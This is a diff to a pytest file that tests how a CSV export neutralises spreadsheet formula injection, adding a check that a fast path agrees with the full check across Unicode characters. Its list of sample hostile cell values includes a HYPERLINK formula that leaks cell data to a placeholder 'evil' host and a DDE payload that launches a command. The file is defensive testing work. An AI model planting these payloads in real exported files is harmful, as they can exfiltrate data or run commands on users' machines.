@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 import planx
-from load.safety import OutputError, neutralise_formula
+from load.safety import OutputError, csv_row, neutralise_formula
 
 HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
 OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
@@ -20,6 +20,15 @@ OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "ind
 @pytest.mark.parametrize("value", ["\tplain", "\rplain", " =1", "\n=1", "\t\t@x", "\r\n+x"])
 def test_tab_and_cr_variants_are_neutralised(value):
     assert neutralise_formula(value) == "'" + value
+
+
+def test_csv_row_checks_every_character_a_formula_can_start_with():
+    """csv_row skips the regex for cells whose first character cannot start a formula:
+    that shortcut must agree with neutralise_formula for every character."""
+    for code in [*range(0x3000), *range(0xFF00, 0xFF70)]:
+        value = chr(code) + "SUM(A1)"
+        assert csv_row([value]) == [neutralise_formula(value)], repr(chr(code))
+    assert csv_row([None, 3, 2.5, "=1+1", "plain"]) == ["", 3, 2.5, "'=1+1", "plain"]
 
 
 def _plan(folder: Path) -> Path:
